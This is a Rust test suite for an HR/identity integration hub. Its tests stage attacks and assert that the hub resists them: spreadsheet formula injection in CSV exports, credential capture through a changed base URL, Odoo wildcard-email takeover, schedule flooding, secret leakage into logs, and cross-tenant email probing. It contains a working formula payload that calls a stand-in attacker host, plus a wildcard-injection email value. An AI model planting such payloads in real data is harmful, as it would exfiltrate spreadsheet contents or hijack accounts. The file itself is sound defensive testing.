//! Attacks on the hub's promises, each test named after what it tries; SECURITY.md lists what they prove.
use std::sync::{Arc, Mutex};

use ihub_domain::integrations::schedules;
use ihub_simulators::Accepted;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::harness::TestHub;
use crate::harness::journeys::{
    connected, employment_hero_connection, enabled_integration, parse_csv, records, records_csv, run_now,
};
use crate::{on_both_backends, with_worker_on_both_backends};

with_worker_on_both_backends!(a_formula_planted_in_an_hr_name_is_exported_as_text,);

/// Someone who can edit their own HR profile names themselves as a spreadsheet formula; the admin exports the run's
/// record lines and opens them in a spreadsheet. The cell must arrive as text, not as a formula.
async fn a_formula_planted_in_an_hr_name_is_exported_as_text(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(3);
    let planted = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    t.sims
        .update_employee(0, |p| {
            p.first_name = planted.to_owned();
            p.preferred_name = None;
        })
        .expect("person 0");
    let integration = enabled_integration(&t, &admin, json!({})).await;
    let run = run_now(&t, &admin, &integration).await;
    assert_eq!(run["status"], "done", "{run}");
    let rows = parse_csv(&records_csv(&t, &admin, run["id"].as_str().unwrap(), "").await);
    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
    let named: Vec<&&str> = cells.iter().filter(|c| c.contains("HYPERLINK")).collect();
    assert!(!named.is_empty(), "the planted name is in the export: {cells:?}");
    for cell in named {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
}

on_both_backends!(a_changed_url_setting_cannot_carry_stored_credentials_to_another_host,);

/// An admin (or a stolen admin API key) points a connection that holds a target's bearer token at a host they
/// control, then tests the connection: the token must not go there. The credentials are dropped with the move, the
/// answer says so, and the organisation's log records it.
async fn a_changed_url_setting_cannot_carry_stored_credentials_to_another_host(t: TestHub) {
    let admin = t.organisation("Acme").await;
    let token = Accepted::default().scim_token;
    let created = t
        .post(
            "/api/v1/connections",
            &admin.token,
            json!({"name": "Learning platform", "connector": "scim",
                   "settings": {"base_url": t.sims.scim_base_url()}, "credentials": {"token": token}}),
        )
        .await;
    let id = created.expect(201)["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/connections/{id}");
    let tested = t.post_empty(&format!("{path}/test"), &admin.token).await;
    assert_eq!(tested.expect(200)["status"], "connected", "{}", tested.text);

    // Another path on the same host keeps them.
    let same_host = format!("{}/", t.sims.scim_base_url());
    let kept = t
        .patch(&path, &admin.token, json!({"settings": {"base_url": same_host}}))
        .await;
    assert_eq!(kept.expect(200)["has_credentials"], true, "{}", kept.text);

    let (attacker, heard) = listener().await;
    let moved = t
        .patch(
            &path,
            &admin.token,
            json!({"settings": {"base_url": format!("http://{attacker}/scim/v2")}}),
        )
        .await;
    let answer = moved.expect(200);
    assert_eq!(answer["has_credentials"], false, "{}", moved.text);
    assert_eq!(answer["status"], "disconnected", "{}", moved.text);
    let notice = answer["last_error"].as_str().unwrap_or_default();
    assert!(
        notice.contains("credentials were removed"),
        "the answer says so: {}",
        moved.text
    );

    let after = t.post_empty(&format!("{path}/test"), &admin.token).await;
    assert_eq!(after.expect(200)["status"], "error", "{}", after.text);
    // Pointing it back does not bring them back either.
    let back = t
        .patch(
            &path,
            &admin.token,
            json!({"settings": {"base_url": t.sims.scim_base_url()}}),
        )
        .await;
    assert_eq!(back.expect(200)["has_credentials"], false, "{}", back.text);
    let heard = heard.lock().unwrap().clone();
    assert!(
        heard.iter().all(|request| !request.contains(&token)),
        "the token reached the new host: {heard:?}"
    );

    let logs = t.get("/api/v1/logs?level=warning", &admin.token).await;
    let logged = logs.expect(200)["items"].as_array().unwrap().iter().any(|entry| {
        entry["message"]
            .as_str()
            .unwrap_or_default()
            .contains("credentials were removed")
    });
    assert!(logged, "a log entry records it: {}", logs.text);
}

/// A host that records every request it is sent (all of it: headers carry the credentials).
async fn listener() -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().unwrap();
    let heard = Arc::new(Mutex::new(Vec::new()));
    let log = heard.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let mut buffer = vec![0u8; 16 * 1024];
            let n = socket.read(&mut buffer).await.unwrap_or(0);
            log.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buffer[..n]).into_owned());
            let _ = socket
                .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
                .await;
        }
    });
    (addr, heard)
}

with_worker_on_both_backends!(an_hr_email_cannot_take_over_or_revive_someone_elses_odoo_employee,);

/// Someone edits their HR email to `%@acme.example`, a pattern that Odoo's `=ilike` would match against every Acme
/// address, hoping to be linked to the CEO's employee (and later to have it archived when they leave). Another
/// takes the email of a former employee whose record is archived. Neither may happen: the first is created as
/// themselves, the second is refused until the integration allows reactivation.
async fn an_hr_email_cannot_take_over_or_revive_someone_elses_odoo_employee(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(2);
    for (index, email) in [(0, "%@acme.example"), (1, "former@acme.example")] {
        t.sims
            .update_employee(index, |p| {
                p.work_email = Some(email.to_owned());
                p.manager = None;
            })
            .expect("person");
    }
    let odoo = Odoo::connect(&t).await;
    let ceo = odoo
        .create(json!({"name": "Chief Executive", "work_email": "ceo@acme.example"}))
        .await;
    let former = odoo
        .create(json!({"name": "Former Employee", "work_email": "former@acme.example", "active": false}))
        .await;

    let accepted = Accepted::default();
    let source = employment_hero_connection(&t, &admin).await;
    let target = t
        .post(
            "/api/v1/connections",
            &admin.token,
            json!({"name": "Odoo", "connector": "odoo",
                   "settings": {"base_url": t.sims.odoo_base_url(), "database": accepted.odoo_database},
                   "credentials": {"login": accepted.odoo_login, "api_key": accepted.odoo_api_key}}),
        )
        .await
        .expect(201)
        .clone();
    connected(&t, &admin, &[&source, &target]).await;
    let created = t
        .post(
            "/api/v1/integrations",
            &admin.token,
            json!({"name": "EH → Odoo", "kind": "employees_to_users", "source_connection_id": source["id"],
                   "target_connection_id": target["id"], "settings": {}}),
        )
        .await;
    let integration = created.expect(201)["id"].as_str().unwrap().to_owned();
    t.post_empty(&format!("/api/v1/integrations/{integration}/enable"), &admin.token)
        .await
        .expect(200);

    let run = run_now(&t, &admin, &integration).await;
    let lines = records(&t, &admin, &run, "").await;
    // Each line lists the person's fields as its changes, their email among them.
    let line_of = |email: &str| {
        lines
            .iter()
            .find(|l| {
                l["changes"]
                    .as_array()
                    .is_some_and(|changes| changes.iter().any(|c| c["field"] == "email" && c["new"] == email))
            })
            .unwrap_or_else(|| panic!("a line for {email}: {lines:?}"))
            .clone()
    };
    let wildcard = line_of("%@acme.example");
    assert_eq!(wildcard["outcome"], "created", "{wildcard}");
    assert_ne!(wildcard["target_id"], json!(ceo.to_string()), "{wildcard}");
    let ceo_now = odoo.read(ceo).await;
    assert_eq!(ceo_now["name"], "Chief Executive", "{ceo_now}");
    assert_eq!(ceo_now["barcode"], false, "the CEO's employee was linked: {ceo_now}");

    let revived = line_of("former@acme.example");
    assert_eq!(revived["outcome"], "failed", "{revived}");
    assert!(
        revived["error"].as_str().unwrap_or_default().contains("archived"),
        "{revived}"
    );
    assert_eq!(
        odoo.read(former).await["active"],
        false,
        "the archived employee was revived"
    );

    // Allowed by the integration, the archived employee is taken back.
    t.patch(
        &format!("/api/v1/integrations/{integration}"),
        &admin.token,
        json!({"settings": {"reactivate_archived_users": true}}),
    )
    .await
    .expect(200);
    let again = run_now(&t, &admin, &integration).await;
    assert_eq!(again["status"], "done", "{again}");
    let back = odoo.read(former).await;
    assert_eq!(back["active"], true, "{back}");
}

/// Odoo's JSON-RPC as a test sets up records the hub did not make.
struct Odoo {
    http: reqwest::Client,
    url: String,
    uid: i64,
}

impl Odoo {
    async fn connect(t: &TestHub) -> Self {
        let accepted = Accepted::default();
        let mut odoo = Self {
            http: reqwest::Client::builder().no_proxy().build().unwrap(),
            url: format!("{}/jsonrpc", t.sims.odoo_base_url().trim_end_matches('/')),
            uid: 0,
        };
        odoo.uid = odoo
            .call(
                "common",
                "authenticate",
                json!([accepted.odoo_database, accepted.odoo_login, accepted.odoo_api_key, {}]),
            )
            .await
            .as_i64()
            .expect("authenticated");
        odoo
    }

    async fn call(&self, service: &str, method: &str, args: serde_json::Value) -> serde_json::Value {
        let answer: serde_json::Value = self
            .http
            .post(&self.url)
            .json(&json!({"jsonrpc": "2.0", "method": "call", "id": 1,
                          "params": {"service": service, "method": method, "args": args}}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert!(answer.get("error").is_none(), "{answer}");
        answer["result"].clone()
    }

    async fn execute(&self, method: &str, args: serde_json::Value, kwargs: serde_json::Value) -> serde_json::Value {
        let accepted = Accepted::default();
        self.call(
            "object",
            "execute_kw",
            json!([
                accepted.odoo_database,
                self.uid,
                accepted.odoo_api_key,
                "hr.employee",
                method,
                args,
                kwargs
            ]),
        )
        .await
    }

    async fn create(&self, values: serde_json::Value) -> i64 {
        self.execute("create", json!([values]), json!({}))
            .await
            .as_i64()
            .expect("an id")
    }

    async fn read(&self, id: i64) -> serde_json::Value {
        let rows = self
            .execute(
                "read",
                json!([[id]]),
                json!({"fields": ["name", "work_email", "active", "barcode"], "context": {"active_test": false}}),
            )
            .await;
        rows[0].clone()
    }
}

on_both_backends!(schedules_cannot_pile_runs_behind_a_waiting_one_or_multiply_without_limit,);

/// An operator (or a key) adds schedule after schedule, all due at once, while the integration's run is stuck in
/// the queue: each tick would add another run behind it. A firing while a run waits or runs is skipped and
/// logged; two schedules due together start one run; and an integration's schedules stop at the ceiling.
async fn schedules_cannot_pile_runs_behind_a_waiting_one_or_multiply_without_limit(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(1);
    let integration = enabled_integration(&t, &admin, json!({})).await;
    // No worker here: a run started now waits in the queue.
    let waiting = t
        .post(
            &format!("/api/v1/integrations/{integration}/run"),
            &admin.token,
            json!({}),
        )
        .await
        .expect(202)["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let due = (chrono::Utc::now() - chrono::Duration::seconds(1)).to_rfc3339();
    let schedules_path = format!("/api/v1/integrations/{integration}/schedules");
    let mut schedules = Vec::new();
    for _ in 0..2 {
        let created = t
            .post(
                &schedules_path,
                &admin.token,
                json!({"every": {"n": 1, "unit": "hours"}, "next_run_at": due}),
            )
            .await;
        schedules.push(created.expect(201)["id"].as_str().unwrap().to_owned());
    }
    let fired = schedules::fire_due(&t.hub, chrono::Utc::now()).await.unwrap();
    assert!(fired.is_empty(), "runs piled behind the waiting one: {fired:?}");
    let runs = t
        .get(&format!("/api/v1/integrations/{integration}/runs"), &admin.token)
        .await;
    assert_eq!(runs.expect(200)["items"].as_array().unwrap().len(), 1, "{}", runs.text);
    for id in &schedules {
        let schedule = t.get(&format!("/api/v1/schedules/{id}"), &admin.token).await;
        let next = schedule.expect(200)["next_run_at"].as_str().unwrap().to_owned();
        assert!(next > due, "the skipped occurrence moved on: {}", schedule.text);
    }
    let logs = t.get("/api/v1/logs", &admin.token).await;
    assert!(logs.text.contains("scheduled sync was skipped"), "{}", logs.text);

    // Once nothing waits, both schedules due together start one run, not two.
    t.post_empty(&format!("/api/v1/runs/{waiting}/cancel"), &admin.token)
        .await
        .expect(200);
    for id in &schedules {
        t.patch(
            &format!("/api/v1/schedules/{id}"),
            &admin.token,
            json!({"next_run_at": due}),
        )
        .await
        .expect(200);
    }
    let fired = schedules::fire_due(&t.hub, chrono::Utc::now()).await.unwrap();
    assert_eq!(fired.len(), 1, "{fired:?}");

    // The ceiling: the default allows 20 schedules an integration.
    for n in 2..20 {
        t.post(&schedules_path, &admin.token, json!({"cron": format!("{n} 3 * * *")}))
            .await
            .expect(201);
    }
    let refused = t
        .post(&schedules_path, &admin.token, json!({"cron": "30 4 * * *"}))
        .await;
    refused.expect_problem(409, "too_many_schedules");
    let listed = t.get(&format!("{schedules_path}?limit=100"), &admin.token).await;
    assert_eq!(listed.expect(200)["items"].as_array().unwrap().len(), 20);
}

on_both_backends!(webhook_tokens_and_oauth_codes_never_reach_the_request_log,);

/// The hub's log is read by more people than its admins (a log platform, a support engineer). A webhook URL's
/// token is the only secret a source sends with its deliveries, and the OAuth callback's code and state finish a
/// connect: none of them may be written there. A delivery is refused on purpose so that the request logs a
/// warning inside its span.
async fn webhook_tokens_and_oauth_codes_never_reach_the_request_log(t: TestHub) {
    let log = captured_log();
    let admin = t.organisation("Acme").await;
    let integration = enabled_integration(&t, &admin, json!({})).await;
    let url = t
        .get(&format!("/api/v1/integrations/{integration}"), &admin.token)
        .await
        .expect(200)["webhook_url"]
        .as_str()
        .unwrap()
        .to_owned();
    let token = url.rsplit('/').next().unwrap().to_owned();
    let client = reqwest::Client::builder().no_proxy().build().unwrap();
    let refused = client
        .post(&url)
        .header("content-type", "application/json")
        .body("{\"not\": \"an event\"}")
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 400);
    let code = format!("code-{}", uuid::Uuid::new_v4().simple());
    client
        .get(format!(
            "{}/api/v1/oauth/callback?code={code}&state=state-{code}",
            t.base
        ))
        .send()
        .await
        .unwrap();

    let text = String::from_utf8_lossy(&log.lock().unwrap()).into_owned();
    let ours: Vec<&str> = text.lines().filter(|l| l.contains(&integration)).collect();
    assert!(
        ours.iter()
            .any(|l| l.contains("webhook delivery refused") && l.contains("/api/v1/hooks/{")),
        "the refusal is logged inside its request, by route: {ours:?}"
    );
    assert!(!text.contains(&token), "the webhook token is in the log");
    assert!(!text.contains(&code), "the OAuth code is in the log");
}

/// Everything the process logs at info and above, from the first call on (one subscriber per process).
fn captured_log() -> Arc<Mutex<Vec<u8>>> {
    static LOG: std::sync::OnceLock<Arc<Mutex<Vec<u8>>>> = std::sync::OnceLock::new();
    LOG.get_or_init(|| {
        let buffer = Arc::new(Mutex::new(Vec::new()));
        let writer = buffer.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_env_filter(tracing_subscriber::EnvFilter::new("info"))
            .with_ansi(false)
            .with_writer(move || Capture(writer.clone()))
            .finish();
        tracing_subscriber::util::SubscriberInitExt::try_init(subscriber).expect("no other subscriber is set first");
        buffer
    })
    .clone()
}

struct Capture(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Capture {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

on_both_backends!(an_api_key_cannot_outlive_its_creators_role_or_its_expiry,);

/// An admin hands an admin key to a script, is then demoted (or their password is reset after a suspected
/// compromise): the key must stop working, not go on acting as an admin. A key made to expire must stop then.
async fn an_api_key_cannot_outlive_its_creators_role_or_its_expiry(t: TestHub) {
    let admin = t.organisation("Acme").await;
    let other = t.user_in(admin.organisation_id, ihub_domain::Role::Admin).await;
    let make = |token: String, body: serde_json::Value| {
        let t = &t;
        async move {
            let created = t.post("/api/v1/api-keys", &token, body).await;
            created.expect(201)["secret"].as_str().unwrap().to_owned()
        }
    };
    // Listing keys is for admins only: what an admin key can do and a support one cannot.
    let admin_only = "/api/v1/api-keys";

    let demoted_key = make(other.token.clone(), json!({"name": "script", "role": "admin"})).await;
    t.get(admin_only, &demoted_key).await.expect(200);
    t.patch(
        &format!("/api/v1/users/{}", other.user_id),
        &admin.token,
        json!({"role": "support"}),
    )
    .await
    .expect(200);
    t.get(admin_only, &demoted_key).await.expect(401);
    t.get("/api/v1/connections", &demoted_key).await.expect(401);

    let reset_key = make(admin.token.clone(), json!({"name": "export", "role": "admin"})).await;
    t.get(admin_only, &reset_key).await.expect(200);
    let third = t.user_in(admin.organisation_id, ihub_domain::Role::Admin).await;
    t.patch(
        &format!("/api/v1/users/{}", admin.user_id),
        &third.token,
        json!({"password": "a brand new long passphrase"}),
    )
    .await
    .expect(200);
    t.get(admin_only, &reset_key).await.expect(401);
    let listed = t.get(admin_only, &third.token).await;
    let revoked = listed.expect(200)["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|k| !k["revoked_at"].is_null())
        .count();
    assert_eq!(revoked, 2, "both keys are listed as revoked: {}", listed.text);

    let past = (chrono::Utc::now() - chrono::Duration::minutes(1)).to_rfc3339();
    let refused = t
        .post(
            "/api/v1/api-keys",
            &third.token,
            json!({"name": "late", "expires_at": past}),
        )
        .await;
    assert_eq!(refused.invalid_fields(), vec!["expires_at"]);
    let soon = (chrono::Utc::now() + chrono::Duration::seconds(2)).to_rfc3339();
    let expiring = make(third.token.clone(), json!({"name": "one-off", "expires_at": soon})).await;
    t.get("/api/v1/connections", &expiring).await.expect(200);
    tokio::time::sleep(std::time::Duration::from_millis(2500)).await;
    t.get("/api/v1/connections", &expiring).await.expect(401);
}

on_both_backends!(a_new_users_email_does_not_reveal_another_organisations_users,);

/// An admin probes whether a competitor's staff use the hub by creating users with their email addresses. The
/// answer may say the address cannot be used (emails sign people in, so they are unique), but not that it belongs
/// to a user elsewhere; an email of the admin's own organisation may be named as theirs.
async fn a_new_users_email_does_not_reveal_another_organisations_users(t: TestHub) {
    let acme = t.organisation("Acme").await;
    let rival = t.organisation("Rival").await;
    let grace = json!({"email": "grace@acme.example", "password": crate::harness::PASSWORD, "role": "support"});
    t.post("/api/v1/users", &acme.token, grace.clone()).await.expect(201);

    let probe = t.post("/api/v1/users", &rival.token, grace.clone()).await;
    probe.expect_problem(409, "email_unavailable");
    for telling in ["Acme", "exist", "organisation", "already"] {
        assert!(
            !probe.text.contains(telling),
            "the answer tells ({telling}): {}",
            probe.text
        );
    }
    let own = t.post("/api/v1/users", &acme.token, grace).await;
    own.expect_problem(409, "email_taken");
}
